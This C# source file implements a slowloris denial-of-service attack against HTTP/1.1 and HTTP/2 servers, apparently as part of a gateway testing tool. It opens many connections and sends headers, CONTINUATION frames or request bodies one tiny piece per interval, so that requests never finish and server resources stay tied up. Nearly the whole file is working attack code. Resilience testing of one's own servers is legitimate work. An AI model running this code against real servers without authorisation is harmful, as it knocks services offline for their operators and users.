using System.Buffers;
using System.Text;
using TagGateway.Attacks.Connecting;
using TagGateway.Attacks.Http2;

namespace TagGateway.Attacks.Crowds;

/// <summary>Sends requests that never come to their end, a little at each interval (slowloris).</summary>
/// <param name="target">The server.</param>
/// <param name="kind">What is slow.</param>
/// <param name="path">With its query.</param>
/// <param name="interval">Between two pieces.</param>
/// <param name="streams">On each HTTP/2 connection; with slow headers always one, for a header block cannot be interrupted.</param>
internal sealed class SlowRequests(Target target, SlowKind kind, string path, TimeSpan interval, int streams)
{
    private const int UploadBytes = 1_000_000;
    private static readonly byte[] Byte = [(byte)'x'];

    public Crowd Start(int connections) => Crowd.Start(connections, returns: true, target.Scheme == TargetScheme.Http ? SendHttp1Async : SendHttp2Async);

    private async Task SendHttp1Async(CrowdSeat seat, CancellationToken stop)
    {
        await using var stream = await target.ConnectAsync(seat.Number, receiveBufferBytes: null, stop);
        var start = kind == SlowKind.Headers
            ? $"GET {path} HTTP/1.1\r\nHost: {target.Host}\r\n"
            : $"POST {path} HTTP/1.1\r\nHost: {target.Host}\r\nContent-Type: text/plain\r\nContent-Length: {UploadBytes}\r\n\r\n";
        await stream.WriteAsync(Encoding.Latin1.GetBytes(start), stop);
        seat.Open();
        var piece = kind == SlowKind.Headers ? "X-A: b\r\n"u8.ToArray() : Byte;
        await PaceAsync(ReadToEndAsync(stream, stop), () => stream.WriteAsync(piece, stop), stop);
    }

    private async Task SendHttp2Async(CrowdSeat seat, CancellationToken stop)
    {
        await using var connection = await Http2Connection.OpenAsync(target, seat.Number, windowBytes: int.MaxValue, cancellation: stop);
        var pieces = new ArrayBufferWriter<byte>();
        var start = new ArrayBufferWriter<byte>();
        for (var number = 0; number < (kind == SlowKind.Headers ? 1 : streams); number++)
        {
            var streamId = connection.NextStreamId();
            if (kind == SlowKind.Headers)
            {
                start.WriteFrame(FrameType.Headers, FrameFlags.EndStream, streamId, HeaderBlock.Request("GET", target, path));
                pieces.WriteFrame(FrameType.Continuation, FrameFlags.None, streamId, HeaderBlock.Encode(("x-a", "b")));
            }
            else
            {
                start.WriteFrame(FrameType.Headers, FrameFlags.EndHeaders, streamId, HeaderBlock.Request("POST", target, path, ("content-type", "text/plain")));
                pieces.WriteFrame(FrameType.Data, FrameFlags.None, streamId, Byte);
            }
        }

        await connection.WriteAsync(start.WrittenMemory, stop);
        seat.Open();
        await PaceAsync(ReadToEndAsync(connection, stop), async () => await connection.WriteAsync(pieces.WrittenMemory, stop), stop);
    }

    private async Task PaceAsync(Task ended, Func<ValueTask> send, CancellationToken stop)
    {
        using var timer = new PeriodicTimer(interval);
        while (await Task.WhenAny(ended, timer.WaitForNextTickAsync(stop).AsTask()) != ended)
        {
            stop.ThrowIfCancellationRequested();
            await send();
        }
    }

    private static async Task ReadToEndAsync(Stream stream, CancellationToken stop)
    {
        var buffer = new byte[512];
        while (await stream.ReadAsync(buffer, stop) > 0)
        {
        }
    }

    private static async Task ReadToEndAsync(Http2Connection connection, CancellationToken stop)
    {
        while (await connection.ReadAsync(stop) is not null)
        {
        }
    }
}
